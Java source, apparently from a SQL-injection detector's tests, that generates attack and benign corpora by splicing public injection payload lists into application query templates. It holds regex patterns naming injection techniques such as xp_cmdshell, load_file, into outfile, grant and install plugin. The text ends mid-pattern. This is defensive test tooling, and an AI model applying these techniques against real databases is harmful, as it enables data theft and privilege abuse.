package dev.aegis.detect.corpus;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.EnumMap;
import java.util.EnumSet;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.function.Supplier;
import java.util.regex.Pattern;

/**
 * Regenerates the golden SQL corpus under {@code core/src/test/resources/corpus}: {@code attacks.tsv},
 * {@code benign.tsv}, {@code dropped-payloads.tsv} and the counts section of {@code README.md}.
 *
 * <p>Run from the repository root with the JDK alone (Java 17 single-file launch):
 *
 * <pre>
 * java core/src/test/java/dev/aegis/detect/corpus/CorpusGenerator.java core/src/test/resources/corpus
 * </pre>
 *
 * <p>The output is a pure function of the payload files in {@code corpus/payloads/} and of the templates
 * in this file: every random choice comes from {@link Random} with a fixed seed, and every collection that
 * is iterated is ordered. Running it twice gives identical files.
 *
 * <p>Attack statements are built the way they reach a driver: each public payload (user input) is
 * URL-decoded and spliced, unescaped, into an application statement template whose quoting and
 * parenthesis depth match the payload's break-out (a payload starting {@code ')} goes where the
 * application wrote {@code ('…')}). A splice that is not lexically valid MySQL (unbalanced quotes or
 * parentheses, a stacked statement that does not start with a statement keyword) is retried once with a
 * trailing {@code -- -} (what attackers add); if it still fails, the payload is dropped and listed in
 * {@code dropped-payloads.tsv} with the reason.
 *
 * <p>TSV fields are escaped so that a statement stays on one line: {@code \\} backslash, {@code \t} tab,
 * {@code \n} line feed, {@code \r} carriage return, {@code \xHH} any other control character. Use
 * {@link #unescapeField(String)} to read them back.
 */
public final class CorpusGenerator {

  static final long SEED = 0xAE915L;

  static final List<String> CATEGORIES = List.of("tautology", "union", "stacked", "comment-truncation",
      "time-blind", "error-based", "boolean-blind", "system-probe", "file-access", "privilege",
      "obfuscation");

  static final List<String> FAMILIES = List.of("hibernate", "spring-data", "jooq", "mybatis", "flyway",
      "reporting", "admin-tooling", "handwritten-app");

  /** Payload files, in the order they are read; paths relative to {@code corpus/payloads}. */
  static final List<String> PAYLOAD_FILES = List.of(
      "libinjection_sqli-misc.txt",
      "fuzzdb_sqli_detect_xplatform.txt",
      "payloadsallthethings/Auth_Bypass.txt",
      "payloadsallthethings/Auth_Bypass2.txt",
      "payloadsallthethings/FUZZDB_MYSQL.txt",
      "payloadsallthethings/FUZZDB_MySQL-WHERE_Time.txt",
      "payloadsallthethings/FUZZDB_MySQL_ReadLocalFiles.txt",
      "payloadsallthethings/Generic_ErrorBased.txt",
      "payloadsallthethings/Generic_Fuzz.txt",
      "payloadsallthethings/Generic_TimeBased.txt",
      "payloadsallthethings/Generic_UnionSelect.txt",
      "payloadsallthethings/SQLi_Polyglots.txt",
      "payloadsallthethings/payloads-sql-blind-MySQL-INSERT",
      "payloadsallthethings/payloads-sql-blind-MySQL-ORDER_BY",
      "payloadsallthethings/payloads-sql-blind-MySQL-WHERE");

  /**
   * Files that are form-encoded ({@code +} is a space). The others encode spaces as {@code %20} and use
   * a literal {@code +} as SQL arithmetic, e.g. {@code '+if(benchmark(…),NULL,NULL))} in the blind INSERT
   * list, so there {@code +} stays {@code +}.
   */
  static final Set<String> FORM_ENCODED = Set.of("libinjection_sqli-misc.txt",
      "libinjection_false_positives.txt");

  static final String FALSE_POSITIVES_FILE = "libinjection_false_positives.txt";

  private CorpusGenerator() {}

  public static void main(String[] args) throws IOException {
    Path dir = Path.of(args.length > 0 ? args[0] : "core/src/test/resources/corpus");
    Path payloads = dir.resolve("payloads");
    if (!Files.isDirectory(payloads)) {
      throw new IllegalArgumentException("no payloads directory at " + payloads.toAbsolutePath());
    }
    AttackBuilder attackBuilder = new AttackBuilder(new Random(SEED));
    List<String[]> attacks = attackBuilder.build(payloads);
    List<String> searchTerms = readFalsePositives(payloads.resolve(FALSE_POSITIVES_FILE));
    List<String[]> benign = new BenignBuilder(new Random(SEED + 1), searchTerms).build();

    Set<String> benignStatements = new LinkedHashSet<>();
    benign.forEach(b -> benignStatements.add(b[1]));
    for (String[] a : attacks) {
      if (benignStatements.contains(a[2])) {
        throw new IllegalStateException("statement is both attack and benign: " + a[2]);
      }
    }

    writeTsv(dir.resolve("attacks.tsv"), attacks);
    writeTsv(dir.resolve("benign.tsv"), benign);
    writeTsv(dir.resolve("dropped-payloads.tsv"), attackBuilder.dropped);
    String counts = countsMarkdown(attacks, benign, attackBuilder.dropped);
    updateReadme(dir.resolve("README.md"), counts);
    System.out.print(counts);
  }

  // ---------------------------------------------------------------------------------------------
  // TSV and decoding

  static String escapeField(String s) {
    StringBuilder b = new StringBuilder(s.length() + 8);
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      switch (c) {
        case '\\' -> b.append("\\\\");
        case '\t' -> b.append("\\t");
        case '\n' -> b.append("\\n");
        case '\r' -> b.append("\\r");
        default -> {
          if (c < 0x20 || c == 0x7f) {
            b.append(String.format(Locale.ROOT, "\\x%02x", (int) c));
          } else {
            b.append(c);
          }
        }
      }
    }
    return b.toString();
  }

  /** Inverse of {@link #escapeField(String)}; rejects an unknown or truncated escape. */
  public static String unescapeField(String s) {
    StringBuilder b = new StringBuilder(s.length());
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      if (c != '\\') {
        b.append(c);
        continue;
      }
      if (i + 1 >= s.length()) {
        throw new IllegalArgumentException("truncated escape at end of: " + s);
      }
      char e = s.charAt(++i);
      switch (e) {
        case '\\' -> b.append('\\');
        case 't' -> b.append('\t');
        case 'n' -> b.append('\n');
        case 'r' -> b.append('\r');
        case 'x' -> {
          if (i + 2 >= s.length()) {
            throw new IllegalArgumentException("truncated \\x escape in: " + s);
          }
          b.append((char) Integer.parseInt(s.substring(i + 1, i + 3), 16));
          i += 2;
        }
        default -> throw new IllegalArgumentException("unknown escape \\" + e + " in: " + s);
      }
    }
    return b.toString();
  }

  static void writeTsv(Path file, List<String[]> rows) throws IOException {
    StringBuilder b = new StringBuilder();
    for (String[] row : rows) {
      for (int i = 0; i < row.length; i++) {
        if (i > 0) {
          b.append('\t');
        }
        b.append(escapeField(row[i]));
      }
      b.append('\n');
    }
    Files.writeString(file, b.toString(), StandardCharsets.UTF_8);
  }

  /** Percent-decodes (bytes as UTF-8); with {@code plusIsSpace}, {@code +} is a space as in forms. */
  static String urlDecode(String s, boolean plusIsSpace) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      if (c == '%' && i + 2 < s.length() && isHex(s.charAt(i + 1)) && isHex(s.charAt(i + 2))) {
        out.write(Integer.parseInt(s.substring(i + 1, i + 3), 16));
        i += 2;
      } else if (c == '+' && plusIsSpace) {
        out.write(' ');
      } else {
        byte[] bytes = String.valueOf(c).getBytes(StandardCharsets.UTF_8);
        if (Character.isHighSurrogate(c) && i + 1 < s.length()) {
          bytes = s.substring(i, i + 2).getBytes(StandardCharsets.UTF_8);
          i++;
        }
        out.write(bytes, 0, bytes.length);
      }
    }
    return out.toString(StandardCharsets.UTF_8);
  }

  private static boolean isHex(char c) {
    return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F');
  }

  static List<String> readLines(Path file) throws IOException {
    String text = Files.readString(file, StandardCharsets.UTF_8);
    List<String> lines = new ArrayList<>(List.of(text.split("\n", -1)));
    if (!lines.isEmpty() && lines.get(lines.size() - 1).isEmpty()) {
      lines.remove(lines.size() - 1);
    }
    for (int i = 0; i < lines.size(); i++) {
      String l = lines.get(i);
      if (l.endsWith("\r")) {
        lines.set(i, l.substring(0, l.length() - 1));
      }
    }
    return lines;
  }

  static List<String> readFalsePositives(Path file) throws IOException {
    Set<String> out = new LinkedHashSet<>();
    for (String line : readLines(file)) {
      if (line.isBlank() || line.startsWith("#")) {
        continue;
      }
      String decoded = urlDecode(line, true).strip();
      if (!decoded.isEmpty() && decoded.length() <= 160) {
        out.add(decoded);
      }
    }
    return new ArrayList<>(out);
  }

  // ---------------------------------------------------------------------------------------------
  // Lexical validity (MySQL rules, enough to reject splices that cannot run)

  private static final Pattern STATEMENT_START = Pattern.compile(
      "(?is)\\s*(select|insert|update|delete|replace|drop|create|alter|rename|truncate|set|grant|"
          + "revoke|show|load|call|do|handler|install|uninstall|flush|prepare|execute|deallocate|"
          + "shutdown|with|lock|unlock|kill|describe|desc|explain|\\().*");

  /**
   * True if the statement has balanced quotes and parentheses outside comments, every statement after a
   * {@code ;} starts with a statement keyword, and executable comments are closed. An unclosed
   * {@code /*} at the very end is accepted, as MySQL does.
   */
  static boolean lexicallyValid(String sql) {
    int depth = 0;
    int executable = 0;
    int n = sql.length();
    StringBuilder code = new StringBuilder();
    int i = 0;
    while (i < n) {
      char c = sql.charAt(i);
      char next = i + 1 < n ? sql.charAt(i + 1) : '\0';
      if (c == '\'' || c == '"' || c == '`') {
        int j = i + 1;
        boolean closed = false;
        while (j < n) {
          char d = sql.charAt(j);
          if (d == '\\' && c != '`') {
            j += 2;
            continue;
          }
          if (d == c) {
            if (j + 1 < n && sql.charAt(j + 1) == c) {
              j += 2;
              continue;
            }
            closed = true;
            j++;
            break;
          }
          j++;
        }
        if (!closed) {
          return false;
        }
        code.append(" 'x' ");
        i = j;
        continue;
      }
      if (c == '#' || (c == '-' && next == '-'
          && (i + 2 >= n || sql.charAt(i + 2) <= ' '))) {
        int eol = sql.indexOf('\n', i);
        i = eol < 0 ? n : eol + 1;
        code.append(' ');
        continue;
      }
      if (c == '/' && next == '*') {
        if (i + 2 < n && sql.charAt(i + 2) == '!') {
          i += 3;
          while (i < n && Character.isDigit(sql.charAt(i))) {
            i++;
          }
          executable++;
          code.append(' ');
          continue;
        }
        int end = sql.indexOf("*/", i + 2);
        if (end < 0) {
          i = n;
          continue;
        }
        i = end + 2;
        code.append(' ');
        continue;
      }
      if (c == '*' && next == '/' && executable > 0) {
        executable--;
        i += 2;
        code.append(' ');
        continue;
      }
      if (c == '(') {
        depth++;
      } else if (c == ')') {
        depth--;
        if (depth < 0) {
          return false;
        }
      }
      code.append(c);
      i++;
    }
    if (depth != 0 || executable != 0) {
      return false;
    }
    String[] parts = code.toString().split(";", -1);
    for (int p = 1; p < parts.length; p++) {
      String part = parts[p];
      if (!part.isBlank() && !STATEMENT_START.matcher(part).matches()) {
        return false;
      }
    }
    return !parts[0].isBlank();
  }

  // ---------------------------------------------------------------------------------------------
  // Attacks

  enum Kind { SELECT_WHERE, LOGIN, LIKE, INSERT, UPDATE_SET, UPDATE_WHERE, DELETE_WHERE, ORDER_BY, LIMIT }

  /** An application statement with one slot where the application concatenated user input. */
  record Template(Kind kind, char quote, int depth, int trailingValues, String before, String after,
      String defaultValue) {}

  /** How a payload breaks out: quote it closes (0 for none), parentheses it closes, values it adds. */
  record Shape(char quote, int depth, int extraValues, boolean endsInComment, boolean endsInString,
      boolean appends, boolean leadingComma, boolean closesCleanly) {}

  record Payload(String source, String text, String category, Set<Kind> kinds, int perPayload) {}

  static final Map<String, Set<Kind>> KINDS_BY_CATEGORY = new LinkedHashMap<>();

  static {
    Set<Kind> where = EnumSet.of(Kind.SELECT_WHERE, Kind.LOGIN, Kind.LIKE);
    Set<Kind> writes = EnumSet.of(Kind.INSERT, Kind.UPDATE_SET, Kind.UPDATE_WHERE, Kind.DELETE_WHERE);
    KINDS_BY_CATEGORY.put("tautology", union(where, EnumSet.of(Kind.UPDATE_WHERE, Kind.DELETE_WHERE)));
    KINDS_BY_CATEGORY.put("comment-truncation",
        union(where, EnumSet.of(Kind.UPDATE_WHERE, Kind.DELETE_WHERE)));
    KINDS_BY_CATEGORY.put("union", where);
    KINDS_BY_CATEGORY.put("stacked", union(where, writes));
    KINDS_BY_CATEGORY.put("privilege", union(where, writes));
    KINDS_BY_CATEGORY.put("file-access", union(union(where, writes), EnumSet.of(Kind.LIMIT)));
    KINDS_BY_CATEGORY.put("time-blind", EnumSet.allOf(Kind.class));
    KINDS_BY_CATEGORY.put("error-based", EnumSet.allOf(Kind.class));
    KINDS_BY_CATEGORY.put("boolean-blind",
        union(where, EnumSet.of(Kind.ORDER_BY, Kind.UPDATE_WHERE, Kind.DELETE_WHERE)));
    KINDS_BY_CATEGORY.put("system-probe", where);
    KINDS_BY_CATEGORY.put("obfuscation", union(where, EnumSet.of(Kind.UPDATE_WHERE)));
  }

  /** Categories whose payloads are expressions that work at any nesting depth. */
  static final Set<String> EXPRESSION_CATEGORIES = Set.of("time-blind", "error-based", "boolean-blind");

  private static Set<Kind> union(Set<Kind> a, Set<Kind> b) {
    Set<Kind> s = EnumSet.noneOf(Kind.class);
    s.addAll(a);
    s.addAll(b);
    return s;
  }

  static List<Template> templates() {
    List<Template> t = new ArrayList<>();
    // {kind, head, slot open (Q = quote), slot close, tail, default value}
    String[][] quoted = {
        {"SELECT_WHERE", "SELECT id, name, email FROM users WHERE ", "email = Q", "Q", " AND active = 1", ""},
        {"SELECT_WHERE", "SELECT id, title, body FROM articles WHERE ", "slug = Q", "Q", " AND published = 1", ""},
        {"SELECT_WHERE", "SELECT * FROM products WHERE ", "sku = Q", "Q", "", ""},
        {"SELECT_WHERE", "SELECT id, status, total FROM orders WHERE ", "tracking_code = Q", "Q",
            " AND customer_id = 17", ""},
        {"SELECT_WHERE", "SELECT id, username FROM users WHERE ", "reset_token = Q", "Q",
            " AND reset_expires > NOW()", ""},
        {"SELECT_WHERE", "SELECT code, discount FROM coupons WHERE ", "code = Q", "Q",
            " AND valid_until >= CURDATE()", ""},
        {"SELECT_WHERE", "SELECT id, name, city FROM stores WHERE ", "city = Q", "Q", " ORDER BY name", ""},
        {"LOGIN", "SELECT id, username, role FROM users WHERE ", "username = Q", "Q",
            " AND password = Q5f4dcc3b5aa765d61d8327deb882cf99Q", ""},
        {"LOGIN", "SELECT * FROM admins WHERE ", "login = Q", "Q", " AND password_hash = SHA2(Qs3cretQ, 256)", ""},
        {"LOGIN", "SELECT COUNT(*) FROM users WHERE ", "email = Q", "Q",
            " AND password = MD5(Qhunter2Q) AND locked = 0", ""},
        {"LIKE", "SELECT id, name, price FROM products WHERE ", "name LIKE Q%", "%Q", " ORDER BY name LIMIT 20", ""},
        {"LIKE", "SELECT id, title FROM articles WHERE ", "title LIKE Q%", "%Q", " AND published = 1", ""},
        {"LIKE", "SELECT id, email FROM customers WHERE ", "last_name LIKE Q", "%Q", " ORDER BY last_name", ""},
        {"UPDATE_SET", "UPDATE users SET ", "display_name = Q", "Q", " WHERE id = 42", ""},
        {"UPDATE_SET", "UPDATE profiles SET ", "bio = Q", "Q", ", updated_at = NOW() WHERE user_id = 42", ""},
        {"UPDATE_SET", "UPDATE orders SET ", "shipping_note = Q", "Q", " WHERE id = 1001 AND customer_id = 17", ""},
        {"UPDATE_WHERE", "UPDATE users SET last_login = NOW() WHERE ", "username = Q", "Q", "", ""},
        {"UPDATE_WHERE", "UPDATE sessions SET revoked = 1 WHERE ", "token = Q", "Q", " AND user_id = 42", ""},
        {"DELETE_WHERE", "DELETE FROM cart_items WHERE ", "session_id = Q", "Q", "", ""},
        {"DELETE_WHERE", "DELETE FROM password_resets WHERE ", "token = Q", "Q", " AND user_id = 42", ""},
    };
    String[][] numeric = {
        {"SELECT_WHERE", "SELECT * FROM orders WHERE ", "id = ", "", " AND customer_id = 17", "1001"},
        {"SELECT_WHERE", "SELECT id, name, price FROM products WHERE ", "id = ", "", "", "42"},
        {"SELECT_WHERE", "SELECT * FROM invoices WHERE ", "id = ", "", " AND account_id = 3", "7"},
        {"SELECT_WHERE", "SELECT title, body FROM articles WHERE ", "id = ", "", " AND published = 1", "12"},
        {"SELECT_WHERE", "SELECT id, name, price FROM products WHERE ", "category_id = ", "",
            " AND price < 100 ORDER BY price", "3"},
        {"LOGIN", "SELECT id, role FROM users WHERE ", "id = ", "", " AND api_key = 'f3a9c1e7b2d4'", "5"},
        {"LOGIN", "SELECT id, holder FROM cards WHERE ", "pin = ", "", " AND card_number = '4111111111111111'",
            "1234"},
        {"UPDATE_SET", "UPDATE cart_items SET ", "quantity = ", "", " WHERE id = 9 AND cart_id = 3", "2"},
        {"UPDATE_SET", "UPDATE products SET ", "stock = ", "", " WHERE id = 42", "10"},
        {"UPDATE_WHERE", "UPDATE orders SET status = 'cancelled' WHERE ", "id = ", "", " AND customer_id = 17",
            "1001"},
        {"DELETE_WHERE", "DELETE FROM saved_searches WHERE ", "id = ", "", " AND user_id = 42", "88"},
        {"ORDER_BY", "SELECT id, name, price FROM products WHERE category_id = 3 ORDER BY ", "", "", "", "price"},
        {"ORDER_BY", "SELECT id, title, created_at FROM articles WHERE published = 1 ORDER BY ", "", "",
            " DESC LIMIT 10", "created_at"},
        {"ORDER_BY", "SELECT id, username FROM users ORDER BY ", "", "", "", "username"},
        {"LIMIT", "SELECT id, title FROM posts WHERE published = 1 LIMIT ", "", "", "", "10"},
        {"LIMIT", "SELECT id, name FROM products WHERE active = 1 LIMIT 20 OFFSET ", "", "", "", "40"},
        {"LIMIT", "SELECT * FROM events WHERE account_id = 3 LIMIT 0, ", "", "", "", "25"},
    };
    for (char q : new char[] {'\'', '"'}) {
      String qs = String.valueOf(q);
      for (String[] r : quoted) {
        Kind kind = Kind.valueOf(r[0]);
        String head = r[1];
        String open = r[2].replace("Q", qs);
        String close = r[3].replace("Q", qs);
        String tail = r[4].replace("Q", qs);
        int maxDepth = kind == Kind.SELECT_WHERE || kind == Kind.LOGIN ? 4 : 2;
        for (int d = 0; d <= maxDepth; d++) {
          if (kind == Kind.UPDATE_SET) {
            String assign = open.substring(0, open.indexOf(" = ") + 3);
            t.add(new Template(kind, q, d, 0, head + assign + "(".repeat(d) + qs, qs + ")".repeat(d) + tail, ""));
          } else {
            t.add(new Template(kind, q, d, 0, head + "(".repeat(d) + open, close + ")".repeat(d) + tail, ""));
          }
        }
        if (kind != Kind.UPDATE_SET && !open.contains("LIKE")) {
          String col = open.substring(0, open.indexOf(" = "));
          t.add(new Template(kind, q, 1, 0, head + col + " = LOWER(" + qs, qs + ")" + tail, ""));
          t.add(new Template(kind, q, 1, 0, head + col + " IN (" + qs, qs + ")" + tail, ""));
        } else if (kind == Kind.UPDATE_SET) {
          t.add(new Template(kind, q, 1, 0, head + open.replace(" = " + qs, " = TRIM(" + qs), qs + ")" + tail,
              ""));
        }
      }
      // INSERT: the slot sits inside VALUES (…) with 0..9 values after it.
      t.add(new Template(Kind.INSERT, q, 1, 0,
          "INSERT INTO comments (post_id, author, body) VALUES (3, " + qs + "guest" + qs + ", " + qs,
          qs + ")", ""));
      String[] extraCols = {"message", "phone", "company", "country", "referrer", "ip_address", "user_agent",
          "locale", "created_at"};
      String[] extraVals = {"'Hello'", "'+33 1 23 45 67 89'", "'ACME'", "'FR'", "'https://example.com/'",
          "'203.0.113.7'", "'Mozilla/5.0'", "'fr_FR'", "NOW()"};
      for (int k = 0; k <= 9; k++) {
        StringBuilder cols = new StringBuilder("name, email, subject");
        StringBuilder vals = new StringBuilder();
        for (int e = 0; e < k; e++) {
          cols.append(", ").append(extraCols[e]);
          vals.append(", ").append(extraVals[e].replace("'", qs));
        }
        t.add(new Template(Kind.INSERT, q, 1, k,
            "INSERT INTO contact_requests (" + cols + ") VALUES (" + qs + "Guest" + qs + ", " + qs
                + "guest@example.com" + qs + ", " + qs,
            qs + vals + ")", ""));
      }
    }
    for (String[] r : numeric) {
      Kind kind = Kind.valueOf(r[0]);
      String head = r[1];
      String open = r[2];
      String tail = r[4];
      String def = r[5];
      int maxDepth = kind == Kind.SELECT_WHERE || kind == Kind.LOGIN ? 4 : 0;
      for (int d = 0; d <= maxDepth; d++) {
        t.add(new Template(kind, '\0', d, 0, head + "(".repeat(d) + open, ")".repeat(d) + tail, def));
      }
      if (kind == Kind.SELECT_WHERE && open.equals("id = ")) {
        t.add(new Template(kind, '\0', 1, 0, head + "id IN (", ")" + tail, def));
      }
    }
    t.add(new Template(Kind.INSERT, '\0', 1, 0,
        "INSERT INTO ratings (product_id, user_id, stars) VALUES (17, 42, ", ")", "5"));
    String[] itemCols = {"unit_price", "currency", "discount", "gift_wrap", "note", "warehouse_id",
        "promo_code", "tax_rate", "created_at"};
    String[] itemVals = {"19.99", "'EUR'", "0", "0", "NULL", "2", "NULL", "0.20", "NOW()"};
    for (int k = 0; k <= 9; k++) {
      StringBuilder cols = new StringBuilder("order_id, product_id, quantity");
      StringBuilder vals = new StringBuilder();
      for (int e = 0; e < k; e++) {
        cols.append(", ").append(itemCols[e]);
        vals.append(", ").append(itemVals[e]);
      }
      t.add(new Template(Kind.INSERT, '\0', 1, k,
          "INSERT INTO order_items (" + cols + ") VALUES (1001, 42, ", vals + ")", "1"));
    }
    t.add(new Template(Kind.ORDER_BY, '\'', 1, 0,
        "SELECT id, status FROM orders WHERE customer_id = 17 ORDER BY FIELD(status, '", "')", ""));
    return t;
  }

  /** A payload that is a whole statement (not an input fragment) is stacked after a value: "1; …". */
  private static final Pattern WHOLE_STATEMENT = Pattern.compile(
      "(?is)(create\\s+table|load\\s+data|drop\\s+table|insert\\s+into)\\b.*");
  private static final Set<String> STATEMENT_LEVEL = Set.of("union", "stacked", "privilege", "file-access");

  private static final Pattern APPEND_KEYWORD = Pattern.compile(
      "(?is)(or|and|xor|union|order|group|having|limit|procedure|into|rlike|regexp|like|div|sounds|not|is|"
          + "between|in|waitfor)\\b.*");
  private static final Pattern LITERAL_CONTENT = Pattern.compile("[\\w.@-]*\\w[\\w.@-]*");
  private static final Pattern KEYWORD = Pattern.compile("(?i)or|and|xor|union|select|like|not");
  /** An identifier used as the value (FOO, SO_BUY): a column reference; the template's value replaces it. */
  private static final Pattern BARE_IDENTIFIER = Pattern.compile("(?i)(?!(or|and|not|union|select|true|false|"
      + "null|sleep|benchmark|case|if)\\b)[a-z_][a-z0-9_]*\\b");

  /**
   * True if the quote at {@code at} opens a short literal ('1', 'text') that the payload uses as a value,
   * rather than closing the application's string: '1' union …, @version-'1' union …, 1001-'text' ….
   */
  static boolean startsWithLiteral(String p, int at) {
    char q = p.charAt(at);
    int close = p.indexOf(q, at + 1);
    if (close < 0) {
      return false;
    }
    String inner = p.substring(at + 1, close);
    String prefix = p.substring(0, at).strip();
    return LITERAL_CONTENT.matcher(inner).matches() && !KEYWORD.matcher(inner).matches()
        && (close + 1 >= p.length() || p.charAt(close + 1) != q)
        && (prefix.isEmpty() || prefix.matches("(?s).*[-+*/]"));
  }
  private static final Pattern VALUE_PREFIX = Pattern.compile("^[\\w@.%:$-]*");

  /** Works out where a payload breaks out: see {@link Shape}. Returns null if it cannot be spliced. */
  static Shape shape(String p) {
    char quote = '\0';
    int start;
    var m = VALUE_PREFIX.matcher(p);
    m.find();
    int afterPrefix = m.end();
    if (afterPrefix < p.length() - 1 && afterPrefix > 0 && p.charAt(afterPrefix) == ' '
        && (p.charAt(afterPrefix + 1) == '\'' || p.charAt(afterPrefix + 1) == '"')
        && p.substring(0, afterPrefix).matches("\\d+")) {
      afterPrefix++;
    }
    if (afterPrefix < p.length() && (p.charAt(afterPrefix) == '\'' || p.charAt(afterPrefix) == '"')
        && !startsWithLiteral(p, afterPrefix)) {
      quote = p.charAt(afterPrefix);
      start = afterPrefix + 1;
    } else {
      start = 0;
    }
    int depth = 0;
    int min = 0;
    int extra = 0;
    int lastClose = -1;
    boolean closedOnce = false;
    boolean comment = false;
    char inString = '\0';
    int i = start;
    int n = p.length();
    while (i < n) {
      char c = p.charAt(i);
      char next = i + 1 < n ? p.charAt(i + 1) : '\0';
      if (inString != '\0') {
        if (c == '\\') {
          i += 2;
          continue;
        }
        if (c == inString) {
          if (next == inString) {
            i += 2;
            continue;
          }
          inString = '\0';
        }
        i++;
        continue;
      }
      if (c == '\'' || c == '"') {
        inString = c;
        i++;
        continue;
      }
      if (c == '#' || (c == '-' && next == '-' && (i + 2 >= n || p.charAt(i + 2) <= ' '))
          || (c == '/' && next == '*' && p.indexOf("*/", i + 2) < 0)) {
        comment = true;
        break;
      }
      if (c == '/' && next == '*') {
        i = p.indexOf("*/", i + 2) + 2;
        continue;
      }
      if (c == '(') {
        depth++;
      } else if (c == ')') {
        depth--;
        if (depth < min) {
          min = depth;
          closedOnce = true;
          lastClose = i;
        }
      } else if (c == ',' && depth == 0 && !closedOnce && min == 0) {
        extra++;
      }
      i++;
    }
    boolean endsInString = inString != '\0';
    if (endsInString && inString != quote) {
      return null;
    }
    int d = -min;
    if (d == 0) {
      extra = 0;
    }
    String trimmed = p.stripLeading();
    boolean appends = quote == '\0' && (p.isEmpty() || Character.isWhitespace(p.charAt(0))
        || "+,;*=&|)".indexOf(p.charAt(0)) >= 0 || APPEND_KEYWORD.matcher(trimmed).matches());
    String afterValue = quote == '\0' ? p.substring(VALUE_PREFIX.matcher(p).results().findFirst()
        .map(r -> r.end()).orElse(0)).stripLeading() : "";
    String afterClose = lastClose < 0 ? "" : p.substring(lastClose + 1).strip();
    boolean closesCleanly = afterClose.isEmpty() || afterClose.matches("(?s)(;|#|--|/\\*|,).*");
    return new Shape(quote, d, extra, comment, endsInString, appends,
        trimmed.startsWith(",") || afterValue.startsWith(","), closesCleanly);
  }

  // Payloads that are not MySQL, not SQL at all, or fragments: dropped with the reason.
  private static final Pattern NOT_MYSQL = Pattern.compile("(?is).*("
      + "waitfor\\s+delay|xp_cmdshell|xp_regread|\\bexec(ute)?\\b|declare\\s+@|sp_password|pg_sleep|dbms_|"
      + "utl_http|rdb\\$|generate_series|::[a-z]|\\bchr\\s*\\(|convert\\s*\\(\\s*int|nvarchar|\\btop\\s+\\d|"
      + "\\biif\\s*\\(|randomblob|sysobjects|syscolumns|@@variable|^print\\b|bfilename|to_timestamp_tz|"
      + "tz_offset|\\bif\\s*\\(.*\\)\\s*,?\\s*select|\\bbegin\\b|char\\(\\d+\\)\\s*\\+|selectchar|"
      + "\\+\\s*user\\s*\\+).*");
  private static final Pattern NOT_SQL = Pattern.compile("(?is).*("
      + "\\(\\|\\(|/text\\(\\)|\\$\\(|'sleep |&apos;|<[a-z/]|\\\\x27).*");
  private static final Pattern FRAGMENT = Pattern.compile(
      "(?is).*\\b(select|union|all|from|where|and|or|by|order|having)\\s*;?\\s*$");
  private static final Pattern UNION_WITHOUT_SELECT = Pattern.compile("(?is)(?!.*select).*\\bunion\\b.*");
  private static final Pattern OUTFILE_NOT_LITERAL = Pattern.compile(
      "(?is).*into\\s+(out|dump)file\\s+[^'\"\\s].*");
  private static final Pattern TABLE_CONTEXT = Pattern.compile("(?is)\\s*(as\\s+injectx\\b|where\\s+1=1\\b).*");
  private static final Pattern UNKNOWN_COLUMN = Pattern.compile("(?is).*\\b(or|and)\\s+\\(?\\s*([a-z])\\s*=\\s*"
      + "([a-z])\\b(?!\\s*\\().*");

  private static final Pattern FILE = Pattern.compile(
      "(?is).*(load_file\\s*\\(|into\\s+(out|dump)file|load\\s+(data|xml)\\b).*");
  private static final Pattern PRIVILEGE = Pattern.compile("(?is).*(\\bgrant\\s|create\\s+user|alter\\s+user|"
      + "drop\\s+user|set\\s+password|set\\s+global|install\\s+plugin|\\bsoname\\b|"
      + "drop\\s+(table|database|schema)|truncate\\s+(table\\s+)?[a-z_`]|flush\\s+privileges|\\bshutdown\\b).*");
  private static final Pattern ERROR = Pattern.compile("(?is).*(extractvalue\\s*\\(|updatexml\\s*\\(|"
      + "floor\\s*\\(\\s*rand\\s*\\(\\s*0?\\s*\\)\\s*\\*\\s*2\\s*\\)|exp\\s*\\(\\s*~|gtid_subset|gtid_subtract|"
      + "name_const|\\b(multi)?polygon\\s*\\(|multipoint\\s*\\(|geometrycollection\\s*\\(|linestring\\s*\\(|"
      + "geohash\\s*\\(|procedure\\s+analyse|json_keys\\s*\\(|uuid_to_bin\\s*\\(|-\\s*~0).*");
  private static final Pattern TIME = Pattern.compile("(?is).*(\\bsleep\\s*\\(|benchmark\\s*\\(|"
      + "get_lock\\s*\\().*");
  private static final Pattern OBFUSCATION = Pattern.compile("(?is).*(/\\*!|[\\t\\n\\r\\x0b\\x0c]|"
      + "[a-z]/\\*[^!].*?\\*/|/\\*[^!]*?\\*/[a-z(]|\\bchar\\s*\\(\\s*\\d+(\\s*,\\s*\\d+)*\\s*\\)|"
      + "(=|\\blike|\\bin\\s*\\()\\s*0x[0-9a-f]{4,}|\\bunhex\\s*\\(|\\d(e\\d*)?union\\b|\\\\nunion\\b|"
      + "_(utf8mb4|utf8|latin1|binary)'|\\b[bx]'[0-9a-f]+'\\s*=).*");
  private static final Pattern MIXED_CASE_KEYWORD = Pattern.compile(
      "\\b(?i:union|select|from|where|and|or|order|sleep|concat)\\b");
  private static final Pattern UNION = Pattern.compile("(?is).*(^|[^a-z])union([^a-z]|$).*select.*");
  private static final Pattern STACKED = Pattern.compile("(?is).*;\\s*(select|insert|update|delete|replace|"
      + "create|alter|rename|set|call|do|handler|show|prepare|execute|lock|unlock)\\b.*");
  private static final Pattern BLIND_FUNCTION = Pattern.compile("(?is).*(\\b(substring|substr|mid|ascii|ord|"
      + "left|right|length|char_length|bit_length|strcmp|locate|instr|hex|if|elt|field|make_set)\\s*\\(|"
      + "\\bcase\\s+when\\b).*");
  private static final Pattern BLIND_TARGET = Pattern.compile("(?is).*(database\\s*\\(\\s*\\)|"
      + "schema\\s*\\(\\s*\\)|\\buser\\s*\\(\\s*\\)|current_user|system_user|session_user|"
      + "version\\s*\\(\\s*\\)|@@[a-z_]+|\\(\\s*select\\b).*");
  private static final Pattern TRUE_FALSE_PROBE = Pattern.compile("(?is).*(\\band\\b|&&)\\s*\\(?\\s*"
